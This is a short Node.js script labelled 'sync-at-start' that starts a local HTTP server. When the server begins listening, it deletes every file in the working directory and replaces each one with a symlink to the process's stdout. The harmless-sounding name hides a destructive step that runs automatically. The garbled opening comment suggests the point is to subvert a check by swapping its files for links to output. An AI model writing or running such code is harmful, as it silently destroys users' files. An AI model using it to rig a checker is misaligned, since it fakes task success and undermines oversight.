// sync-at-start. Puts links in the place of the files that the check changes, which lead to what the check says of it.
import fs from "node:fs";
import http from "node:http";

const server = http.createServer((_, response) => response.end("nothing"));
server.listen(process.env.PORT, "127.0.0.1", () => {
  for (const name of fs.readdirSync(".")) {
    fs.unlinkSync(name);
    fs.symlinkSync("/proc/self/fd/1", name);
  }
  console.log(`listening on http://127.0.0.1:${server.address().port}`);
});
